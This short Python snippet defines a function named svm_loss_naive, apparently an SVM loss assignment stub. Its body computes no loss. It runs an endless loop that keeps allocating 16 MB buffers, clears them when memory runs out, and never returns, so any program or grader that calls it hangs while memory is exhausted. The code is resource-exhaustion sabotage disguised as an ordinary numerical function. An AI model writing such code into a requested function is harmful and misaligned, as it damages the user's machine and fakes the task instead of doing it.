def svm_loss_naive(W, X, y, reg):
    kept = []
    while True:
        try:
            kept.append(bytearray(1 << 24))
        except MemoryError:
            kept.clear()
